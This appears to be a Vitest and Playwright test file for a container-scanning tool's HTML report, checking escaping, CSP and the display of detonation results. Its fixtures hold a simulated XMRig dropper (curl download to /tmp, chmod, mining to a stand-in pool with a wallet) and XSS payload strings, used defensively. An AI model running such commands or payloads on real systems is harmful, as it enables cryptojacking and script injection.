import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DetonationResult } from '../../src/detonate/session.js';
import { CLIENT_SCRIPT } from '../../src/report/html/client.js';
import { STYLES } from '../../src/report/html/styles.js';
import { jsonForScript, renderHtml } from '../../src/report/html.js';
import { orderReport } from '../../src/report/json.js';
import { FINDING_CATEGORIES, type Finding, type FindingCategory, type Report, type Vulnerability } from '../../src/model/index.js';
import { FORMATS, renderReports } from '../../src/report/render.js';
import { printable } from '../../src/detonate/sinkhole/events.js';
import { runRecordOf } from '../../src/scan/detonation.js';
import { bundledBehaviorRulesDir, loadVerdictRules } from '../../src/verdict/index.js';
import { judgeReport } from '../support/judge.js';
import { chromiumSkipReason, launchChromium, watchPage, type PageWatch } from '../support/chromium.js';
import { repoRoot } from '../support/paths.js';
import { conn, detonation, proc, sinkConnection, SINK } from '../verdict/behavior.js';
import { alpineReport, debianReport, emptyReport, pkg } from './sample-reports.js';

const artifacts = join(repoRoot, 'test-artifacts');

// ---------------------------------------------------------------------------------------------------------------
// Reports

const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

/** A dropper that fetches XMRig, renames it kdevtmpfsi, tries cron persistence and mines against a pool. */
function dropperRun(): DetonationResult {
  const login = `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${WALLET}","pass":"x","agent":"XMRig/6.21.0"}}`;
  const get = 'GET /xmrig HTTP/1.1\r\nHost: dl.example.test\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n';
  return detonation({
    durationMs: 10_000,
    processes: [
      proc(1, 0, ['/bin/sh', '/start.sh'], '/bin/sh', 0),
      proc(5, 1, ['curl', '-fsSL', '-o', '/tmp/kdevtmpfsi', 'http://dl.example.test/xmrig'], '/usr/bin/curl', 40),
      proc(6, 1, ['chmod', '+x', '/tmp/kdevtmpfsi'], '/bin/chmod', 300),
      proc(7, 1, ['/tmp/kdevtmpfsi', '-o', 'stratum+tcp://pool.example.test:3333', '-u', WALLET, '--donate-level', '1'], '/tmp/kdevtmpfsi', 320),
      proc(8, 1, ['pkill', '-9', 'kinsing'], '/usr/bin/pkill', 400),
    ],
    dns: [
      { name: 'dl.example.test', type: 'A', pid: 5 },
      { name: 'pool.example.test', type: 'A', pid: 7 },
      { name: 'pool.example.test', type: 'AAAA', pid: 7 },
    ],
    connections: [
      conn({ pid: 5, dst: SINK, port: 80, host: 'dl.example.test', protocol: 'http', firstBytes: printable(Buffer.from(get)) }),
      conn({ pid: 7, dst: SINK, port: 3333, host: 'pool.example.test', protocol: 'stratum', firstBytes: login.slice(0, 64) }),
    ],
    files: [
      { op: 'create', path: '/tmp/kdevtmpfsi', pid: 5 },
      { op: 'write', path: '/tmp/kdevtmpfsi', pid: 5 },
      { op: 'chmod', path: '/tmp/kdevtmpfsi', pid: 6, mode: 0o755 },
      { op: 'write', path: '/etc/cron.d/kdev', pid: 1, error: 'EROFS' },
      { op: 'rename', path: '/tmp/.x', to: '/tmp/.kdev', pid: 1 },
    ],
    kills: [{ pid: 8, target: 9, signal: 'SIGKILL' }],
    dropped: [{ path: '/tmp/kdevtmpfsi', size: 8_421_376, mode: 0o755, sha256: 'ab'.repeat(32) }],
    cpu: { seconds: 9.4, peakCores: 1 },
    memory: { peakBytes: 52_000_000 },
    pids: { peak: 4 },
    series: Array.from({ length: 10 }, (_, i) => ({ t: (i + 1) * 1000, cpuSeconds: i < 1 ? 0.2 : 0.2 + (i * 1.02), memoryBytes: 8_000_000 + Math.min(i, 4) * 11_000_000, pids: i < 1 ? 2 : 3 })),
    output: { stdout: ' * ABOUT        XMRig/6.21.0 gcc/12.2.0\n * POOL #1      pool.example.test:3333\n', stderr: '', truncated: false },
    sinkhole: {
      events: [
        sinkConnection({ address: SINK, port: 3333 }, 'stratum', { methods: ['login'], wallet: WALLET, password: 'x', agent: 'XMRig/6.21.0', algo: ['rx/0'], rigId: null, jobSent: true }, login),
      ],
      stats: null,
    },
    timedOut: true,
    killedBy: 'deadline',
    exitCode: null,
    timings: { setupMs: 420, firstExecMs: 35, teardownMs: 80 },
  });
}

const vuln = (id: string, pkgName: string, severity: Vulnerability['severity'], score: number | null, fixed: string | null): Vulnerability => ({
  id, aliases: [], package: pkgName, purl: `pkg:deb/debian/${pkgName}@1?distro=debian-12`, installedVersion: '1', fixedVersion: fixed, severity,
  ...(score === null ? {} : { cvss: { score, vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' } }),
  source: 'DSA-5678-1', layer: 0,
});

const VULNS = [
  vuln('CVE-2024-0001', 'openssl', 'high', 7.5, '3.0.13-1~deb12u1'),
  vuln('CVE-2024-0002', 'bash', 'critical', 9.8, null),
  vuln('CVE-2024-0003', 'tzdata', 'low', 3.1, '2024b-0+deb12u1'),
  vuln('CVE-2024-0004', 'libstdc++6', 'moderate', 5.3, null),
  vuln('CVE-2024-0005', 'apt', 'unknown', null, null),
  vuln('CVE-2024-0006', 'curl', 'critical', 9.1, '7.88.1-10+deb12u6'),
];

/** The Debian sample, run: the detonation's findings from the shipped behaviour rules, vulnerabilities matched. */
async function detonatedReport(): Promise<Report> {
  // the shipped behaviour rules only: the report's renderer is under test, not the correlation rules
  const rules = await loadVerdictRules({ bundled: false, dirs: [bundledBehaviorRulesDir()] });
  const run = dropperRun();
  const report = debianReport({
    tool: { name: 'detonate', version: '0.1.0', advisoryDb: { builtAt: '2024-03-01T00:00:00Z', sources: ['debian-security-tracker'] } },
    vulnerabilities: VULNS,
    suppressed: [{ finding: { category: 'secret', severity: 'moderate', title: 'Private key', source: 'static', rule: 'secret/private-key', path: 'etc/ssl/test.key', layer: 0 }, reason: 'test fixture key', expires: '2025-01-01', ignoredBy: '.detonateignore:3' }],
  });
  report.behavior = runRecordOf(run);
  return judgeReport(report, { rules });
}

const XSS = ['<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=1">', '"><svg onload="window.__pwned=1">'] as const;
const [P_SCRIPT, P_IMG, P_SVG] = XSS;

/** Every attacker-controlled string of a report holding markup that would run script if parsed as HTML. */
function hostileReport(): Report {
  const report = debianReport();
  report.image.reference = `evil.example.test/x:${P_SVG}`;
  report.image.config.labels = { [P_IMG]: P_SCRIPT, 'org.opencontainers.image.title': P_SVG };
  report.image.config.env = [`X=${P_SCRIPT}`];
  report.image.layers[1]!.createdBy = `RUN echo '${P_SCRIPT}' > /x`;
  report.packages.push(pkg({ type: 'npm', name: P_IMG, version: P_SVG, layer: 2, paths: ['app/node_modules/x/package.json'], licenses: [P_SCRIPT] }));
  report.findings.push({
    category: 'backdoor', severity: 'critical', title: `Reverse shell in ${P_IMG}`, source: 'static', rule: 'backdoor/x', path: `app/${P_SCRIPT}.sh`, layer: 2,
    evidence: { match: P_SVG, lines: [P_IMG, P_SCRIPT] },
  });
  report.notices = [{ level: 'warning', message: `odd file ${P_SVG}`, path: P_IMG }];
  report.verdict.summary = `runs ${P_SCRIPT} and contacts ${P_IMG}`;
  report.behavior = runRecordOf(detonation({
    processes: [
      proc(1, 0, ['/bin/sh', '-c', P_SCRIPT], '/bin/sh', 0),
      proc(2, 1, [`/tmp/${P_IMG}`, P_SVG], `/tmp/${P_IMG}`, 20),
    ],
    dns: [{ name: `${P_SVG}.example.test`, type: 'A', pid: 2 }, { name: P_SCRIPT, type: 'TXT', pid: 2 }],
    connections: [conn({ pid: 2, dst: SINK, port: 80, host: P_IMG, protocol: 'http', firstBytes: printable(Buffer.from(`GET /${P_SCRIPT} HTTP/1.1\r\nHost: ${P_SVG}\r\n\x00\\`)) })],
    files: [{ op: 'create', path: `/tmp/${P_IMG}`, pid: 2 }, { op: 'rename', path: `/tmp/${P_SCRIPT}`, to: `/tmp/${P_SVG}`, pid: 2 }],
    dropped: [{ path: `/tmp/${P_IMG}`, size: 10, mode: 0o755, sha256: '00'.repeat(32) }],
    output: { stdout: P_SCRIPT, stderr: P_SVG, truncated: false },
  }));
  return report;
}

// ---------------------------------------------------------------------------------------------------------------
// The file itself (no browser)

const DATA_OPEN = '<script type="application/json" id="detonate-data">';
function dataText(html: string): string {
  const start = html.indexOf(DATA_OPEN);
  expect(start).toBeGreaterThan(0);
  const end = html.indexOf('</script>', start);
  return html.slice(start + DATA_OPEN.length, end);
}

describe('HTML report file', () => {
  it('is one self-contained document: no external script, style, font, image or link, and a CSP that allows nothing else', async () => {
    const html = renderHtml([await detonatedReport(), alpineReport()]);
    const markup = html.replace(dataText(html), '');
    expect(markup).not.toMatch(/<link\b|<iframe\b|<object\b|<embed\b|@import|url\(/i);
    expect(markup).not.toMatch(/\s(src|href|srcset|action|poster)\s*=/i);
    // the only absolute URL outside the data is the SVG namespace name the script creates elements in
    expect(markup.match(/https?:\/\/[^\s'"]*/g)).toEqual(['http://www.w3.org/2000/svg']);
    expect(markup.match(/<script\b/g)).toHaveLength(2);
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1] ?? '';
    const hash = (text: string): string => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
    expect(csp.split('; ')).toEqual(expect.arrayContaining([
      "default-src 'none'", `script-src ${hash(CLIENT_SCRIPT)}`, `style-src ${hash(STYLES)}`, "base-uri 'none'", "require-trusted-types-for 'script'",
    ]));
    expect(csp).not.toMatch(/unsafe|https?:|\*/);
    // the hashes are of exactly what the page holds
    expect(html).toContain(`<script>${CLIENT_SCRIPT}</script>`);
    expect(html).toContain(`<style>${STYLES}</style>`);
  });

  it('embeds the reports as JSON that cannot end its script element, and reads back to the same reports', () => {
    const hostile = hostileReport();
    hostile.image.config.labels['sep'] = 'a\u2028b\u2029c & </script><!-- <script>';
    const html = renderHtml([hostile, emptyReport()]);
    const data = dataText(html);
    expect(data).not.toMatch(/[<>&\u2028\u2029]/);
    expect(data).toContain('\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e');
    expect(JSON.parse(data)).toEqual(JSON.parse(JSON.stringify([orderReport(hostile), orderReport(emptyReport())])));
    // nothing from the report appears raw anywhere in the file
    for (const payload of XSS) expect(html).not.toContain(payload);
    expect(jsonForScript('\u2028')).toBe('"\\u2028"');
  });

  it('is a format of the CLI: renderReports("html") gives the same page', async () => {
    expect(FORMATS).toContain('html');
    const reports = [alpineReport()];
    expect(await renderReports('html', reports, { color: false })).toBe(renderHtml(reports));
  });
});

// ---------------------------------------------------------------------------------------------------------------
// In Chromium

const suffix = chromiumSkipReason ? ` (skipped: ${chromiumSkipReason})` : '';

describe.skipIf(chromiumSkipReason !== undefined)(`HTML report in Chromium${suffix}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    mkdirSync(artifacts, { recursive: true });
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });

  async function open(name: string, html: string): Promise<{ page: Page; watch: PageWatch; file: string }> {
    const file = join(artifacts, name);
    writeFileSync(file, html);
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    const watch = await watchPage(page);
    await page.goto(pathToFileURL(file).href);
    await page.waitForSelector('html[data-ready="true"]', { timeout: 10_000 });
    return { page, watch, file };
  }

  const texts = (page: Page, selector: string): Promise<string[]> => page.locator(selector).allInnerTexts();
  /** The vulnerability ids of the rows a person sees, top to bottom. */
  const visibleVulnIds = (page: Page): Promise<string[]> =>
    page.locator('table[data-table="vulnerabilities"] tbody tr:visible td:first-child code').allInnerTexts();

  it('shows the verdict, the findings with their evidence and the process tree of a detonated image', async () => {
    const report = await detonatedReport();
    const { page, watch, file } = await open('html-report.html', renderHtml([report]));
    try {
      const banner = page.locator('[data-section="verdict"]');
      expect(await banner.isVisible()).toBe(true);
      expect(await banner.locator('.verdict-label').innerText()).toBe('MALICIOUS');
      expect(await banner.locator('.categories').innerText()).toMatch(/cryptominer/);
      expect(report.verdict.summary).toMatch(/^Malicious \(cryptominer\): mining over stratum to pool\.example\.test:3333/);
      expect(await banner.locator('.summary').innerText()).toBe(report.verdict.summary);
      expect(await banner.locator('ol.evidence li').first().innerText()).toMatch(/^critical\s/);
      expect(await banner.locator('[data-severity="critical"]').innerText()).toMatch(/critical\s*2/);

      const findings = page.locator('details.finding');
      expect(await findings.count()).toBeGreaterThan(3);
      // most severe first
      expect(await findings.first().getAttribute('data-severity')).toBe('critical');
      const dynamic = page.locator('details.finding', { hasText: 'dynamic' }).first();
      expect(await dynamic.isVisible()).toBe(true);
      const evidence = dynamic.locator('.evidence');
      expect(await evidence.isVisible()).toBe(false);
      await dynamic.locator('summary').click();
      expect(await evidence.isVisible()).toBe(true);
      expect(await evidence.innerText()).toMatch(/description/);

      const tree = page.locator('[data-tree="processes"]');
      expect(await tree.isVisible()).toBe(true);
      // the miner is a child of the start script, its argv shown argument by argument
      const miner = tree.locator('li[data-pid="1"] > ul > li[data-pid="7"]');
      expect(await miner.locator('.argv .arg').allInnerTexts()).toEqual(['/tmp/kdevtmpfsi', '-o', 'stratum+tcp://pool.example.test:3333', '-u', WALLET, '--donate-level', '1']);

      const conns = await texts(page, 'table[data-table="connections"] tbody tr');
      expect(conns[0]).toMatch(/^tcp\s+10\.213\.0\.1:80\s+dl\.example\.test\s+http\s+5\s+GET \/xmrig HTTP\/1\.1\\r\\n\nHost: dl\.example\.test\\r\\n\nUser-Agent/);
      expect(await texts(page, 'table[data-table="dns"] tbody tr td:first-child')).toEqual(['dl.example.test', 'pool.example.test', 'pool.example.test']);
      expect(await page.locator('table[data-table="files"] tbody tr', { hasText: '/etc/cron.d/kdev' }).innerText()).toMatch(/failed: EROFS/);
      expect(await page.locator('table[data-table="dropped"]').innerText()).toMatch(/\/tmp\/kdevtmpfsi\s+8\.4 MB\s+0755/);
      // timeline: exec of the miner at 320 ms, its DNS placed at its start
      const timeline = await texts(page, 'table[data-table="timeline"] tbody tr');
      expect(timeline.findIndex((r) => /kdevtmpfsi -o/.test(r))).toBeLessThan(timeline.findIndex((r) => /A pool\.example\.test/.test(r)));
      expect(await page.locator('[data-section="detonation"] dl.facts').first().innerText()).toMatch(/Ended by\s+the deadline/);
      // CPU and memory charts drawn from behavior.series
      for (const chart of ['cpu', 'mem']) expect(await page.locator(`svg[data-chart="${chart}"] path.${chart}`).getAttribute('d')).toMatch(/^M[\d.]+ [\d.]+( L[\d.]+ [\d.]+){9}$/);
      expect(await page.locator('figure.chart', { hasText: 'Memory' }).locator('figcaption').innerText()).toBe('Memory, peak 52.0 MB');

      const layer2 = page.locator('[data-layer="1"]');
      expect(await layer2.locator('.created-by').innerText()).toMatch(/^RUN \/bin\/sh -c apt-get update/);
      expect(await layer2.innerText()).toMatch(/XMRig miner binary/);
      expect(await page.locator('[data-section="suppressed"]').innerText()).toMatch(/Private key[\s\S]*test fixture key[\s\S]*\.detonateignore:3/);
      expect(await page.locator('[data-section="notices"]').innerText()).toMatch(/unreadable package database/);

      await page.screenshot({ path: join(artifacts, 'html-report.png'), fullPage: true });
      expect(readFileSync(join(artifacts, 'html-report.png')).subarray(1, 4).toString()).toBe('PNG');
      expect(statSync(join(artifacts, 'html-report.png')).size).toBeGreaterThan(50_000);
      expect(watch.pageErrors).toEqual([]);
      expect(watch.consoleErrors).toEqual([]);
      expect(await watch.violations()).toEqual([]);
      expect(watch.requests).toEqual([pathToFileURL(file).href]);
    } finally {
      await page.close();
    }
  });

  it('filters the vulnerabilities table by severity and sorts it by a column', async () => {
    const { page } = await open('html-report-vulns.html', renderHtml([await detonatedReport()]));
    try {
      // most severe first to begin with
      const all = ['CVE-2024-0002', 'CVE-2024-0006', 'CVE-2024-0001', 'CVE-2024-0004', 'CVE-2024-0003', 'CVE-2024-0005'];
      expect(await visibleVulnIds(page)).toEqual(all);
      const box = (sev: string) => page.locator(`.severity-filter input[value="${sev}"]`);
      const shown = page.locator('[data-section="vulnerabilities"] .shown');

      await box('critical').uncheck();
      expect(await visibleVulnIds(page)).toEqual(['CVE-2024-0001', 'CVE-2024-0004', 'CVE-2024-0003', 'CVE-2024-0005']);
      expect(await shown.innerText()).toBe('4 of 6 shown');
      await box('low').uncheck();
      await box('unknown').uncheck();
      expect(await visibleVulnIds(page)).toEqual(['CVE-2024-0001', 'CVE-2024-0004']);
      await box('critical').check();
      expect(await visibleVulnIds(page)).toEqual(['CVE-2024-0002', 'CVE-2024-0006', 'CVE-2024-0001', 'CVE-2024-0004']);
      await box('low').check();
      await box('unknown').check();
      expect(await visibleVulnIds(page)).toEqual(all);

      const header = (label: string) => page.locator('table[data-table="vulnerabilities"] th', { hasText: label });
      await header('CVSS').locator('button').click();
      expect(await header('CVSS').getAttribute('aria-sort')).toBe('ascending');
      // no score sorts last in either direction
      expect(await visibleVulnIds(page)).toEqual(['CVE-2024-0003', 'CVE-2024-0004', 'CVE-2024-0001', 'CVE-2024-0006', 'CVE-2024-0002', 'CVE-2024-0005']);
      await header('CVSS').locator('button').click();
      expect(await header('CVSS').getAttribute('aria-sort')).toBe('descending');
      expect(await visibleVulnIds(page)).toEqual(['CVE-2024-0002', 'CVE-2024-0006', 'CVE-2024-0001', 'CVE-2024-0004', 'CVE-2024-0003', 'CVE-2024-0005']);
      await header('Severity').locator('button').click();
      expect(await texts(page, 'table[data-table="vulnerabilities"] tbody tr td:nth-child(2)')).toEqual(['critical', 'critical', 'high', 'moderate', 'low', 'unknown']);
      expect(await header('CVSS').getAttribute('aria-sort')).toBe('none');
      await header('Package').locator('button').click();
      expect(await texts(page, 'table[data-table="vulnerabilities"] tbody tr td:nth-child(4)')).toEqual(['apt', 'bash', 'curl', 'libstdc++6', 'openssl', 'tzdata']);

      // a filter and a sort together: the sort keeps hidden rows hidden
      await box('critical').uncheck();
      expect(await visibleVulnIds(page)).toEqual(['CVE-2024-0005', 'CVE-2024-0004', 'CVE-2024-0001', 'CVE-2024-0003']);
    } finally {
      await page.close();
    }
  });

  it('filters the packages by text and by type', async () => {
    const { page } = await open('html-report-packages.html', renderHtml([debianReport()]));
    try {
      const rows = (): Promise<string[]> => page.locator('table[data-table="packages"] tbody tr:visible td:first-child').allInnerTexts();
      expect(await rows()).toHaveLength(17);
      // a terminal escape and a right-to-left override in a name show as escapes, not as what they do
      expect(await rows()).toContain('evil\\x1b[2Jname\\u202egnp.exe');
      expect(await page.locator('[data-layer="2"] .created-by').innerText()).toBe('COPY app /app\n\\x1b]0;pwned\\x07 # buildkit');
      await page.locator('[data-section="packages"] input[type="search"]').fill('lodash');
      expect(await rows()).toEqual(['lodash', 'lodash']);
      await page.locator('[data-section="packages"] input[type="search"]').fill('');
      await page.locator('[data-section="packages"] select').selectOption('deb');
      expect(await rows()).toEqual(['libssl3', 'libstdc++6', 'bash', 'tzdata']);
      // matches licenses and purls too
      await page.locator('[data-section="packages"] input[type="search"]').fill('gpl-3');
      expect(await rows()).toEqual(['libstdc++6', 'bash']);
      await page.locator('[data-section="packages"] input[type="search"]').fill('no such package');
      expect(await rows()).toEqual([]);
      expect(await page.locator('[data-section="packages"] .shown').innerText()).toBe('0 of 17 shown');
    } finally {
      await page.close();
    }
  });

  it('gives several images one section each, and copes with reports that are empty, static-only or malformed', async () => {
    const failed = debianReport({ behavior: { error: 'the image has no command to run' } });
    const { page, watch } = await open('html-report-several.html', renderHtml([await detonatedReport(), alpineReport(), emptyReport(), failed]));
    try {
      expect(await page.locator('section.image').count()).toBe(4);
      expect(await texts(page, 'section.image > h2')).toEqual(['docker.io/library/example:1.0', expect.stringMatching(/^ghcr\.io\/owner\/team\/alpine-app@sha256:/), 'docker-archive:/tmp/scratch image.tar', 'docker.io/library/example:1.0']);
      expect(await page.locator('header.top').innerText()).toMatch(/4 images, 2 malicious/);
      expect(await texts(page, '.verdict-label')).toEqual(['MALICIOUS', 'No malicious behaviour or content found', 'No malicious behaviour or content found', 'MALICIOUS']);
      expect(await page.locator('#r1-detonation').innerText()).toMatch(/Not detonated \(static analysis only\)/);
      expect(await page.locator('#r3-detonation').innerText()).toMatch(/could not be run: the image has no command to run/);
      expect(await page.locator('#r2-packages').innerText()).toMatch(/No packages found/);
      // the alpine sample's malformed vulnerability entries: the string is dropped, the bare object shows as unknown
      expect(await page.locator('#r1-vulnerabilities tbody tr').count()).toBe(3);
      expect(watch.pageErrors).toEqual([]);
      expect(watch.consoleErrors).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('shows markup from a hostile image as text, and runs none of it', async () => {
    const { page, watch } = await open('html-report-hostile.html', renderHtml([hostileReport()]));
    try {
      const pwned = (): Promise<unknown> => page.evaluate(() => (globalThis as unknown as { __pwned?: unknown }).__pwned);
      await page.locator('details.finding').first().locator('summary').click();
      await page.waitForTimeout(200);
      expect(await pwned()).toBeUndefined();
      // the payloads are on the page as text where the image put them
      expect(await page.locator('section.image > h2').innerText()).toBe(`evil.example.test/x:${P_SVG}`);
      const image = await page.locator('[data-section="image"]').innerText();
      expect(image).toContain(`${P_IMG}\n${P_SCRIPT}`);
      expect(image).toContain(`X=${P_SCRIPT}`);
      expect(await page.locator('.verdict .summary').innerText()).toBe(`runs ${P_SCRIPT} and contacts ${P_IMG}`);
      expect(await page.locator('details.finding').first().innerText()).toContain(`/app/${P_SCRIPT}.sh`);
      expect(await page.locator('details.finding .evidence').first().innerText()).toContain(P_SVG);
      expect(await page.locator('[data-tree="processes"] .arg').allInnerTexts()).toEqual(['/bin/sh', '-c', P_SCRIPT, `/tmp/${P_IMG}`, P_SVG]);
      expect(await texts(page, 'table[data-table="dns"] tbody td:first-child')).toEqual([`${P_SVG}.example.test`, P_SCRIPT]);
      // escaped newlines start a new line; other escapes stay as the sinkhole wrote them
      expect(await page.locator('table[data-table="connections"] .first-bytes').innerText()).toBe(`GET /${P_SCRIPT} HTTP/1.1\\r\\n\nHost: ${P_SVG}\\r\\n\n\\x00\\\\`);
      expect(await page.locator('table[data-table="files"]').innerText()).toContain(`/tmp/${P_SCRIPT} \u2192 /tmp/${P_SVG}`);
      expect(await page.locator('table[data-table="dropped"]').innerText()).toContain(`/tmp/${P_IMG}`);
      expect(await page.locator('table[data-table="packages"]').innerText()).toContain(P_IMG);
      expect(await page.locator('[data-layer="1"] .created-by').innerText()).toBe(`RUN echo '${P_SCRIPT}' > /x`);
      expect(await page.locator('pre.stdout').innerText()).toBe(P_SCRIPT);
      // and none of it became an element: the only scripts are the page's two, no img or foreign svg
      expect(await page.locator('script').count()).toBe(2);
      expect(await page.locator('img').count()).toBe(0);
      expect(await page.locator('svg[onload], [onerror]').count()).toBe(0);
      expect(await pwned()).toBeUndefined();
      expect(watch.pageErrors).toEqual([]);
      expect(watch.consoleErrors).toEqual([]);
      expect(await watch.violations()).toEqual([]);
      await page.screenshot({ path: join(artifacts, 'html-report-hostile.png'), fullPage: true });
    } finally {
      await page.close();
    }
  });

  it('marks a category as malicious exactly where the verdict counts it as malicious', async () => {
    const finding = (category: FindingCategory): Finding => ({
      category, severity: 'critical', title: `A ${category} finding`, source: 'static', rule: `${category}/sample`, path: `opt/${category}`, layer: 1,
    });
    // what the verdict makes of a strong finding of each category on its own
    const malicious = FINDING_CATEGORIES.filter((c) => judgeReport(debianReport({ findings: [finding(c)] })).verdict.malicious).sort();
    expect(malicious).toContain('cryptominer');
    expect(malicious.length).toBeLessThan(FINDING_CATEGORIES.length);
    const every = judgeReport(debianReport({ findings: FINDING_CATEGORIES.map(finding) }));
    const attackTool = judgeReport(debianReport({ findings: [finding('hacking-tool')] }));
    const { page, watch } = await open('html-report-categories.html', renderHtml([every, attackTool]));
    try {
      expect(await texts(page, '#r0-verdict .categories .chip')).toEqual([...FINDING_CATEGORIES].sort());
      expect(await texts(page, '#r0-verdict .categories .chip.bad')).toEqual(malicious);
      expect((await texts(page, '#r0-findings details.finding .chip.bad')).sort()).toEqual(malicious);
      // an image whose only finding is an attack tool is not malicious, and nothing on its page says otherwise
      expect(await page.locator('#r1-verdict .verdict-label').innerText()).toBe('No malicious behaviour or content found');
      expect(await texts(page, '#r1-verdict .categories .chip')).toEqual(['hacking-tool']);
      expect(await page.locator('#r1 .chip.bad').count()).toBe(0);
      expect(watch.pageErrors).toEqual([]);
    } finally {
      await page.close();
    }
  });

  it('blocks script even if an escaping bug let markup into the page: the CSP allows only the report\'s own script', async () => {
    // simulate the bug: the same page with the payloads pasted in raw
    const html = renderHtml([alpineReport()]).replace('<div id="app"></div>', `<div id="app"></div>${XSS.join('')}<div onclick="window.__pwned=1" id="bait">x</div>`);
    const { page, watch } = await open('html-report-csp.html', html);
    try {
      await page.locator('#bait').click();
      await page.waitForTimeout(200);
      expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
      // the injected elements exist (this page really had the bug) and the browser refused to run them
      expect(await page.locator('img[src="x"]').count()).toBe(1);
      const violations = await watch.violations();
      expect(violations.filter((v) => v.startsWith('script-src')).length).toBeGreaterThanOrEqual(3);
      // while the report's own script still ran
      expect(await page.locator('.verdict-label').innerText()).toBe('No malicious behaviour or content found');
    } finally {
      await page.close();
    }
  });
});
